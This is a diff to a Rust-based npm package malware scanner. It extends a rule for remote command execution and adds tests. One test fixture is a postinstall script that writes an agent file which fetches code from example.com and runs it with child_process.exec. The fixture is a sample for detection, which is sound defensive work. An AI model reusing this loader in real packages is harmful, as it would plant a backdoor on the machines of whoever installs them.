@@ -15,11 +15,12 @@ diligence_finding::declare_rule! {
     /// through callbacks, promise chains, `await`, helpers and modules) into `eval`/`Function`/`vm`, a module
     /// load, or a process spawn whose command it is (critical; as a mere argument of a fixed program, medium, unless
     /// the program is a wrapper such as `sudo`/`env` or the command runs an interpreter on inline code such as
-    /// `python3 -c`); a
-    /// download written to a file that the package then runs or loads (high, critical when the process is
-    /// detached with its output ignored; high too when the download was fetched with TLS verification off by a
-    /// file that starts processes, even if the run is not matched by name). Also process spawns or `eval` of data received inside a network
-    /// callback, and install-time fetches of a second runtime (bun, deno) that is then spawned.
+    /// `python3 -c`); a download written to a file that the package then runs or loads (high, critical when the
+    /// process is detached with its output ignored; high too when the download was fetched with TLS verification
+    /// off by a file that starts processes, even if the run is not matched by name). Also process spawns or `eval` of data received inside a network
+    /// callback, and install-time fetches of a second runtime (bun, deno) that is then spawned. A program the
+    /// package writes to a file as a constant (an agent's source in a template literal, started later by a
+    /// service or a scheduled task) is analysed as code at the write, so its paths count too.
     ///
     /// ## Why it matters
     /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
@@ -468,6 +469,40 @@ async function fetchUpdate({ path, acceptedPath, timestamp }) {
             ),
         ]);
         assert_eq!(hits(&s, "code/download-exec"), vec![]);
+    }
+
+    /// An install script writes an agent program as a template literal (run later by a
+    /// service): the agent's remote command execution is seen at the write.
+    #[test]
+    fn positive_code_written_then_run() {
+        let s = scan(&[
+            (
+                "package.json",
+                "{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node setup.js\"}}",
+            ),
+            (
+                "setup.js",
+                "const fs = require('fs');\nconst src = `\nconst h=require('https'),c=require('child_process');\nh.get('https://example.com/c',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>c.exec(b));});\n`;\nfs.writeFileSync(require('os').homedir() + '/.agent.js', src);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/download-exec"),
+            vec![("setup.js".to_string(), 6)]
+        );
+    }
+
+    /// A scaffolder writes a server template: network code, nothing run from the network.
+    #[test]
+    fn negative_scaffolder_writes_server_template() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nconst SERVER = `const http = require('http');\nhttp.createServer((req, res) => res.end('hello')).listen(process.env.PORT || 3000);\n`;\nexports.create = (dir) => fs.writeFileSync(dir + '/server.js', SERVER);\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/download-exec"), vec![]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 
     /// A BeaverTail-style loader: a promise-wrapped `http(s).get` helper whose URL is its
